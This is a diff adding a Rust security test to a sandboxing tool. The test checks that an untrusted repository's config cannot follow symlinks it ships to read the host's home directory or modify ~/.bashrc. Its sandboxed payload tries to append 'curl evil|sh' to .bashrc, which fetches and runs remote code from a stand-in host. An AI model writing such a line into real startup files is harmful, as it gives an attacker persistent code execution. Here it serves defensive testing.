@@ -502,3 +502,44 @@ out("connect_mapped", proxy(b"CONNECT [::ffff:7f00:1]:{e} HTTP/1.1\r\nHost: [::f
         assert!(ok.finish() >= 1, "the allowed server was never reached");
     });
 }
+
+/// A cloned repository is attacker-controlled content: it ships links
+/// (git stores them) and a `.guard.toml` whose grants all name paths in
+/// the project (`read = ["{project}/docs"]`), which applies without `guard
+/// trust` since a grant inside the project widens nothing. With `docs ->
+/// ../<home>/docs`, the grant would follow the link to the host home.
+#[test]
+fn an_untrusted_project_profile_cannot_grant_through_a_link_it_ships() {
+    each_mode(|mut case| {
+        let (_canary, rc) = plant_targets(&mut case);
+        let home = home_from_project(&case);
+        case.write(
+            ".guard.toml",
+            "version = 1\n[filesystem]\nread = [\"{project}/docs\"]\nwrite = [\"{project}/rc\"]\n",
+        );
+        std::os::unix::fs::symlink(format!("{home}/docs"), case.project().join("docs")).unwrap();
+        std::os::unix::fs::symlink(format!("{home}/.bashrc"), case.project().join("rc")).unwrap();
+        case.env.own();
+        let before = std::fs::read(&rc).unwrap();
+        let out = case.run(&[
+            "run",
+            "--",
+            "/usr/bin/python3",
+            "-c",
+            r#"
+def err(f):
+    try:
+        f()
+        return 0
+    except OSError as e:
+        return e.errno
+print("ran=1")
+print("docs=%d" % err(lambda: print(open("docs/notes.txt").read())))
+print("rc=%d" % err(lambda: print(open("rc").read())))
+err(lambda: open("rc", "a").write("curl evil|sh\n"))
+"#,
+        ]);
+        out.ran().fields(&[("docs", ENOENT), ("rc", ENOENT)]);
+        assert_eq!(std::fs::read(&rc).unwrap(), before, "~/.bashrc changed");
+    });
+}
